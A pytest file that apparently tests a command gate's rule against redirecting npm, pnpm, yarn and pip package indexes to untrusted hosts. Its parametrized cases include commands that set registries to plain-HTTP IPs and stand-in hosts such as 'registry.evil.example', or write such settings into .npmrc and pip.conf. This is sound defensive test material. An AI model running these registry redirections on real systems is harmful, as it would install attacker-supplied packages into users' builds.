"""Package-index settings stored for later installs (CG-PKG-003, and ``.npmrc``/``pip.conf``
written on the line): judged as the install they amount to, the index by where it is."""

from __future__ import annotations

import pytest
from vtables import ASK, DENY, assert_caught, decide

from clawgate.decision import Outcome
from clawgate.validators.indexsettings import npmrc_installs, pipconf_installs


@pytest.mark.parametrize(("line", "expected", "rule"), [
    ("npm config set registry http://198.51.100.9/", DENY, "CG-DEST-007"),
    ("npm set registry http://198.51.100.9/", DENY, "CG-DEST-007"),
    ("pnpm config set @acme:registry http://registry.evil.example/", DENY, "CG-DEST-007"),
    ("yarn config set npmRegistryServer http://198.51.100.9", DENY, "CG-DEST-007"),
    ("pip config set global.index-url http://198.51.100.9/simple", DENY, "CG-DEST-007"),
    ("pip3 config set install.extra-index-url http://pypi.evil.example/simple", DENY,
     "CG-DEST-007"),
    ("printf 'registry=http://198.51.100.9/\\n' > .npmrc && npm install", DENY, "CG-DEST-007"),
    ("printf '[global]\\nindex-url = http://198.51.100.9/simple\\n' > pip.conf", DENY,
     "CG-DEST-007"),
    ("npm config set registry https://npm.evil.example/", ASK, "CG-DEST-007"),
    ("pip config set global.index-url https://pypi.evil.example/simple", ASK, "CG-DEST-007"),
])
def test_caught(line: str, expected: Outcome, rule: str) -> None:
    assert_caught(line, expected, rule)


@pytest.mark.parametrize("line", [
    "npm config set registry https://registry.npmjs.org/",  # (writing config still asks)
    "pip config set global.index-url https://pypi.org/simple",
    "npm config set fund false",
    "npm config get registry",
    "printf '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\\n' > .npmrc",
])
def test_no_other_index(line: str) -> None:
    outcome, rules = decide(line)
    assert outcome is not DENY and "CG-DEST-007" not in rules, rules


def test_npmrc_installs() -> None:
    text = "registry=https://r.example/\n@acme:registry = http://a.example\nfund=false\n"
    assert npmrc_installs(text) == ["npm install --registry https://r.example/ package",
                                    "npm install --registry http://a.example package"]


@pytest.mark.parametrize(("text", "lines"), [
    ("[global]\nindex-url = https://p.example/simple\nextra-index-url =\n  https://a.example"
     "\n  https://b.example\n",
     ["pip install --index-url https://p.example/simple package",
      "pip install --extra-index-url https://a.example package",
      "pip install --extra-index-url https://b.example package"]),
    ("[global]\ntimeout = 60\n", []),
    ("not ini", None),
])
def test_pipconf_installs(text: str, lines: list[str] | None) -> None:
    assert pipconf_installs(text) == lines
